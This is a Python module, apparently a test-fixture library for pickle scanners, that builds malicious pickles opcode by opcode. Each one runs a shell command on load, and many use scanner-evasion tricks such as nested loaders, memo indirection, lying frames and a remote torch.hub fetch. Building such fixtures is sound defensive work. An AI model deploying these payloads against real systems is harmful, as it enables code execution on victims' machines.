"""Harmful pickles for testing scanners and loaders, assembled from opcodes.

Nothing here pickles a live object: each payload is written opcode by opcode, so the bytes are
exactly the trick they name. Every payload runs `command` through the shell when unpickled
(tests point it at a canary file to prove whether anything ran).
"""

from __future__ import annotations

import struct
from typing import Callable

from ..plugins import Registry

# Every payload, by name: a function of the shell command it runs (registered below).
PAYLOADS: Registry[Callable[[str], bytes]] = Registry("payload")

# --- an opcode assembler ---------------------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def string0(text: str) -> bytes:
    """A protocol-0 STRING opcode."""
    return b"S" + repr(text).encode() + b"\n"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


MARK, TUPLE, TUPLE1, TUPLE2 = b"(", b"t", b"\x85", b"\x86"
REDUCE, BUILD, STOP, NONE = b"R", b"b", b".", b"N"
STACK_GLOBAL, OBJ, EMPTY_DICT, SETITEM = b"\x93", b"o", b"}", b"s"


def call(callable_ops: bytes, *args: bytes) -> bytes:
    """Push callable, push a tuple of args, REDUCE."""
    return callable_ops + MARK + b"".join(args) + TUPLE + REDUCE


# --- payloads --------------------------------------------------------------------------------

@PAYLOADS.register("classic")
def classic(command: str) -> bytes:
    """Protocol 0: GLOBAL os.system, REDUCE. What every scanner should catch."""
    return global_("os", "system") + MARK + string0(command) + TUPLE + REDUCE + STOP


@PAYLOADS.register("posix-system")
def posix_system(command: str) -> bytes:
    return proto(2) + call(global_("posix", "system"), unicode(command)) + STOP


@PAYLOADS.register("subprocess-popen")
def subprocess_popen(command: str) -> bytes:
    argv = MARK + unicode("sh") + unicode("-c") + unicode(command) + b"l"  # LIST
    return proto(2) + global_("subprocess", "Popen") + argv + TUPLE1 + REDUCE + STOP


@PAYLOADS.register("dotted-name")
def dotted_name(command: str) -> bytes:
    """Protocol 4 resolves dotted names by attribute walk: pathlib -> os -> system."""
    return (proto(4) + unicode("pathlib") + unicode("os.system") + STACK_GLOBAL
            + MARK + unicode(command) + TUPLE + REDUCE + STOP)


@PAYLOADS.register("memo-indirection")
def memo_indirection(command: str) -> bytes:
    """The module and name reach STACK_GLOBAL through the memo, far from where they were set."""
    return (proto(4) + unicode("os") + binput(1) + b"0" + unicode("system") + binput(2) + b"0"
            + NONE + b"0" + binget(1) + binget(2) + STACK_GLOBAL
            + MARK + unicode(command) + TUPLE + REDUCE + STOP)


@PAYLOADS.register("builtins-exec")
def builtins_exec(command: str) -> bytes:
    code = f"import os; os.system({command!r})"
    return proto(2) + call(global_("builtins", "exec"), unicode(code)) + STOP


@PAYLOADS.register("python2-builtin")
def python2_builtin(command: str) -> bytes:
    """Python 2's __builtin__, which Python 3's unpickler maps to builtins."""
    code = f"__import__('os').system({command!r})"
    return proto(2) + call(global_("__builtin__", "eval"), unicode(code)) + STOP


@PAYLOADS.register("getattr-chain")
def getattr_chain(command: str) -> bytes:
    """getattr(__import__('os'), 'system')(command): the called object is computed."""
    os_module = call(global_("builtins", "__import__"), unicode("os"))
    system = call(global_("builtins", "getattr"), os_module, unicode("system"))
    return proto(2) + system + MARK + unicode(command) + TUPLE + REDUCE + STOP


@PAYLOADS.register("runpy")
def runpy_code(command: str) -> bytes:
    code = f"import os; os.system({command!r})"
    return proto(2) + call(global_("runpy", "_run_code"), unicode(code), EMPTY_DICT) + STOP


@PAYLOADS.register("torch-hub-load")
def torch_hub_load(command: str) -> bytes:
    """torch.hub.load fetches and runs a repository's hubconf.py (command unused: the network)."""
    return proto(2) + call(global_("torch.hub", "load"), unicode("attacker/repo"),
                           unicode("model")) + STOP


@PAYLOADS.register("torch-load")
def torch_load(command: str) -> bytes:
    """torch.load of a second, attacker-controlled file, with weights_only=False semantics."""
    return proto(2) + call(global_("torch", "load"), unicode("/tmp/second_stage.pt")) + STOP


@PAYLOADS.register("nested-load-from-bytes")
def nested_load_from_bytes(command: str) -> bytes:
    """A clean-looking outer pickle that hands a harmful one to torch.storage._load_from_bytes."""
    inner = classic(command)
    return proto(2) + call(global_("torch.storage", "_load_from_bytes"), binbytes(inner)) + STOP


@PAYLOADS.register("nested-pickle-loads")
def nested_pickle_loads(command: str) -> bytes:
    """pickle.loads of a nested payload whose bytes arrive through _codecs.encode (protocol 2)."""
    inner = classic(command).decode("latin-1")
    data = call(global_("_codecs", "encode"), unicode(inner), unicode("latin1"))
    return proto(2) + call(global_("pickle", "loads"), data) + STOP


@PAYLOADS.register("logging-dictconfig")
def logging_dictconfig(command: str) -> bytes:
    """A standard-library function on no gadget list: logging.config.dictConfig resolves a
    handler's '()' factory by name (os.system) and calls it with the handler's other keys."""
    handler = EMPTY_DICT + MARK + unicode("()") + unicode("os.system") + unicode("command") \
        + unicode(command) + b"u"
    config = EMPTY_DICT + MARK + unicode("version") + b"K\x01" + unicode("handlers") \
        + EMPTY_DICT + unicode("h") + handler + SETITEM + b"u"
    return proto(2) + call(global_("logging.config", "dictConfig"), config) + STOP


@PAYLOADS.register("rebuild-applier")
def rebuild_applier(command: str) -> bytes:
    """torch._tensor._rebuild_from_type_v2 (allowed: torch.save writes it) calls its first
    argument with its third: here torch.storage._load_from_bytes with a harmful pickle."""
    args = MARK + global_("torch.storage", "_load_from_bytes") + global_("torch", "Tensor") \
        + MARK + binbytes(classic(command)) + TUPLE + EMPTY_DICT + TUPLE
    return proto(2) + global_("torch._tensor", "_rebuild_from_type_v2") + args + REDUCE + STOP


@PAYLOADS.register("generator-ctor")
def generator_ctor(command: str) -> bytes:
    """numpy's Generator unpickling helper calls its second argument on its first: a nested
    torch.load of a harmful pickle."""
    return proto(2) + call(global_("numpy.random._pickle", "__generator_ctor"),
                           binbytes(classic(command)),
                           global_("torch.storage", "_load_from_bytes")) + STOP


@PAYLOADS.register("partial-nested")
def partial_nested(command: str) -> bytes:
    """functools.partial of an allowed nested loader, called: the nested pickle runs."""
    made = call(global_("functools", "partial"), global_("torch.storage", "_load_from_bytes"),
                binbytes(classic(command)))
    return proto(2) + made + MARK + TUPLE + REDUCE + STOP


@PAYLOADS.register("partial-setstate")
def partial_setstate(command: str) -> bytes:
    """A partial of a harmless callable whose BUILD state (partial.__setstate__) swaps in a
    nested loader and its pickle; called, it runs that pickle."""
    made = call(global_("functools", "partial"), global_("builtins", "int"))
    state = MARK + global_("torch.storage", "_load_from_bytes") + MARK \
        + binbytes(classic(command)) + TUPLE + EMPTY_DICT + NONE + TUPLE
    return proto(2) + made + state + BUILD + MARK + TUPLE + REDUCE + STOP


@PAYLOADS.register("utf16-nested")
def utf16_nested(command: str) -> bytes:
    """A nested pickle whose bytes come from _codecs.encode(text, 'utf-16-le'): read as
    latin-1 they are other bytes."""
    inner = classic(command)
    inner += b" " * (len(inner) % 2)  # after STOP: ignored by the loader
    data = call(global_("_codecs", "encode"), unicode(inner.decode("utf-16-le")),
                unicode("utf-16-le"))
    return proto(2) + call(global_("torch.storage", "_load_from_bytes"), data) + STOP


@PAYLOADS.register("dynamic-name")
def dynamic_name(command: str) -> bytes:
    """STACK_GLOBAL whose module name is the result of a call (str.join), not a constant."""
    module = call(global_("builtins", "str"), unicode("os"))
    return (proto(4) + module + unicode("system") + STACK_GLOBAL
            + MARK + unicode(command) + TUPLE + REDUCE + STOP)


@PAYLOADS.register("extension-code")
def extension_code(command: str) -> bytes:
    """EXT1: imports whatever the loading process registered under code 1 in copyreg."""
    return proto(2) + b"\x82\x01" + MARK + unicode(command) + TUPLE + REDUCE + STOP


@PAYLOADS.register("build-on-function")
def build_on_function(command: str) -> bytes:
    """BUILD with slot state on a function: setattr(func, '__defaults__', ...) at load time."""
    state = NONE + EMPTY_DICT + unicode("__defaults__") + MARK + unicode(command) + TUPLE \
        + SETITEM + TUPLE2
    return proto(2) + global_("collections", "namedtuple") + state + BUILD + STOP


@PAYLOADS.register("lying-frame")
def lying_frame(command: str) -> bytes:
    """A FRAME that claims 2 bytes, hiding (from frame-trusting readers) the opcodes after it."""
    body = unicode("os") + unicode("system") + STACK_GLOBAL + MARK + unicode(command) + TUPLE \
        + REDUCE + STOP
    return proto(4) + frame(2) + body


@PAYLOADS.register("truncated")
def truncated(command: str) -> bytes:
    """No STOP: the unpickler runs the call, then fails. Still harmful."""
    return classic(command)[:-1]


@PAYLOADS.register("inst-opcode")
def inst_opcode(command: str) -> bytes:
    """Protocol 0 INST: import and call in one opcode."""
    return MARK + string0(command) + b"ios\nsystem\n" + STOP


@PAYLOADS.register("float-nul")
def float_nul(command: str) -> bytes:
    """A FLOAT whose line goes on after a NUL: CPython's unpickler reads the number up to the
    NUL and goes on (float() would refuse the line), then runs the call after it."""
    return b"F1.5\x00junk\n0" + classic(command)


@PAYLOADS.register("obj-opcode")
def obj_opcode(command: str) -> bytes:
    return proto(1) + MARK + global_("os", "system") + unicode(command) + OBJ + STOP

